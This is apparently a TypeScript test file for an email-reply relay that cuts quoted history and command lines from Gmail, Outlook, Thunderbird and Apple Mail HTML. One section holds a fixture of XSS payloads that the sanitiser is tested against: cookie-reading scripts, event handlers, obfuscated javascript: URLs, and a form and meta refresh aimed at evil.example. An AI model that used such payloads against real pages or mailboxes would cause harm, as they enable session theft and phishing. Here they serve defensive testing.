// The relayed HTML (src/notify/relay-html.ts): replies from Gmail, Outlook (web and desktop),
// Thunderbird and Apple Mail that quote our notification, cut to the engineer's new text without
// the command lines; hostile HTML made harmless; null where the cut is not certain.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { relayHtml, MAX_RELAY_HTML_CHARS } from '../../src/notify/relay-html.js';

const dir = new URL('../fixtures/mail/relay/', import.meta.url);
const load = (name: string): string => readFileSync(new URL(name, dir), 'utf8');

/** What a reader sees: tags dropped, entities and runs of space folded. */
function visible(html: string): string {
  return html.replace(/<[^>]*>/g, ' ').replace(/&nbsp;|\u00a0/g, ' ').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&').replace(/\s+/g, ' ').trim();
}

function relayed(html: string, commandLines: number): string {
  const out = relayHtml(html, commandLines);
  if (out === null) throw new Error('expected HTML, got null');
  return out;
}

describe('relayHtml: real clients quoting a notification', () => {
  it('Gmail: two command lines and the gmail_quote go, formatting, link and signature stay', () => {
    const out = relayed(load('gmail-need-info.html'), 2);
    expect(visible(out)).toBe('Hello Ana, could you send us the server log from Monday? The guide shows where it is. Thanks, Erin Erin Example | Acme Support');
    expect(out).toContain('<b>server log</b>');
    expect(out).toContain('<a href="https://docs.acme.example/logs">guide</a>');
    expect(out).not.toMatch(/#need-info|#severity|wrote:|New case|E42/);
    expect(out.startsWith('<div dir="ltr"><div>Hello Ana,</div>')).toBe(true);
  });

  it('Outlook on the web: appendonsend, <hr> and divRplyFwdMsg with everything after go', () => {
    const out = relayed(load('outlook-web-resolved.html'), 1);
    expect(visible(out)).toBe('Hi Ana, version 4.2 fixes the export. Please update and let us know.');
    expect(out).not.toMatch(/<hr|From:|E42|#resolved|<style|P \{/);
  });

  it('Outlook desktop: the bordered "From:" block and the history after it go, the autolinked #assign line too', () => {
    const out = relayed(load('outlook-desktop-assign.html'), 1);
    expect(visible(out)).toBe('Hello Ana, my colleague Bob will take over; he knows the export module best. Erin');
    expect(out).not.toMatch(/Bob\.Builder|mailto|From:|Sent:|E42|o:p|MsoNormal|shapedefaults/);
  });

  it('Thunderbird: moz-cite-prefix and its blockquote go, the moz-signature stays', () => {
    const out = relayed(load('thunderbird-plain-reply.html'), 0);
    expect(visible(out)).toBe('Hello Ana, the patch is attached. Apply it with acme-cli patch apply . -- Erin Example Acme Support');
    expect(out).toContain('<code>acme-cli patch apply</code>');
    expect(out).not.toMatch(/wrote:|blockquote|E42|cite=/);
  });

  it('Apple Mail: the command line at the body top and the attribution inside the cite blockquote go', () => {
    const out = relayed(load('apple-mail-close.html'), 1);
    expect(visible(out)).toBe('Closing this as agreed on the phone. Thanks for your patience, Ana! Erin');
    expect(out).not.toMatch(/#close|wrote:|E42|<br \/><\/div>$/);
  });

  it('Apple Mail: an attribution in its own block just above the quote goes with it', () => {
    const out = relayed(load('apple-mail-attribution-outside.html'), 0);
    expect(visible(out)).toBe('Good news: the fix is in 4.2.1, released today. Erin');
  });

  it('a reply without quote or commands is kept whole', () => {
    expect(relayed('<p>Hello <i>Ana</i>,</p><p>done.</p>', 0)).toBe('<p>Hello <i>Ana</i>,</p><p>done.</p>');
  });
});

describe('relayHtml: hostile HTML is made harmless', () => {
  const hostile = [
    '<p>Hello<script>alert(document.cookie)</script> Ana</p>',
    '<style>body{background:url(https://evil.example/track)}</style>',
    '<img src="x" onerror="alert(1)"><img src="https://cdn.acme.example/logo.png" onload="steal()" alt="logo">',
    '<a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt&#58;alert(2)">again</a> <a href="https://ok.example/" onclick="x()">ok</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="inline"> <img src="cid:part1.abc@acme.example" alt="shot">',
    '<iframe src="https://evil.example/">frame text</iframe><object data="x.swf">fallback</object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="pw"><button>Send</button></form>',
    '<div style="background-image:url(javascript:alert(1));color:red;position:fixed">styled</div>',
    '<svg><script>alert(3)</script></svg><math><mi>x</mi></math><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ].join('\n');

  it('removes scripts, event handlers, javascript: and data: URLs, frames, forms and dangerous styles', () => {
    const out = relayed(hostile, 0);
    expect(out).not.toMatch(/<script|alert|onerror|onload|onclick|javascript|<style|evil\.example|<iframe|<object|<embed|<form|<input|<button|<svg|<math|<base|<meta|data:image|url\(|position/i);
    expect(out).not.toContain('steal');
    expect(out).not.toContain('src="x"');
  });

  it('keeps the harmless parts: text, https and cid images, https links, plain colours', () => {
    const out = relayed(hostile, 0);
    expect(out).toContain('Hello Ana');
    expect(out).toContain('<img src="https://cdn.acme.example/logo.png" alt="logo" />');
    expect(out).toContain('<img src="cid:part1.abc@acme.example" alt="shot" />');
    expect(out).toContain('<a href="https://ok.example/">ok</a>');
    expect(out).toContain('<div style="color:red">styled</div>');
    expect(out).not.toContain('frame text');
  });

  it('does not trust our own bookkeeping attributes when a sender writes them', () => {
    const out = relayed('<div data-casemail-cut="1">keep me</div><div data-casemail-drop="1">and me</div><p data-casemail-rule="1">too</p>', 0);
    expect(visible(out)).toBe('keep me and me too');
    expect(out).not.toContain('data-casemail');
  });
});

describe('relayHtml: null when the cut is not certain', () => {
  it('the command lines are not at the top of the HTML', () => {
    expect(relayHtml('<p>Hello Ana,</p><p>#close</p>', 1)).toBeNull();
    expect(relayHtml('<p>#close</p>', 2)).toBeNull();
  });

  it('one text run holds several lines (pre, or plain text pasted as HTML)', () => {
    expect(relayHtml('<pre>#close\nDone.</pre>', 1)).toBeNull();
  });

  it('an answer below the quote (bottom-posting or inline replies)', () => {
    const html = '<div class="moz-cite-prefix">On 30.11.26 09:00, Acme Support wrote:</div><blockquote type="cite">The export fails.</blockquote><p>Which version do you run?</p>';
    expect(relayHtml(html, 0)).toBeNull();
  });

  it('history the structure does not mark, still recognisable as text', () => {
    const html = '<p>Thanks, done.</p><p>On Mon, 30 Nov 2026 at 09:00, Acme Support &lt;support@acme.example&gt; wrote:</p><p>&gt; The export fails.</p>';
    expect(relayHtml(html, 0)).toBeNull();
  });

  it('nothing left (a commands-only reply), or the input is too large', () => {
    expect(relayHtml('<div>#resolved</div><div><br></div>', 1)).toBeNull();
    expect(relayHtml(`<p>${'a'.repeat(MAX_RELAY_HTML_CHARS)}</p>`, 0)).toBeNull();
    expect(relayHtml('<p>x</p>', -1)).toBeNull();
  });

  it('stays fast on hostile nesting and long runs of breaks', () => {
    const t0 = performance.now();
    relayHtml('<div>'.repeat(20000) + 'x' + '<br>'.repeat(50000), 0);
    relayHtml('<p>#close</p>' + '<br>'.repeat(100000) + '<blockquote type="cite">q</blockquote>', 1);
    expect(performance.now() - t0).toBeLessThan(3000);
  });
});
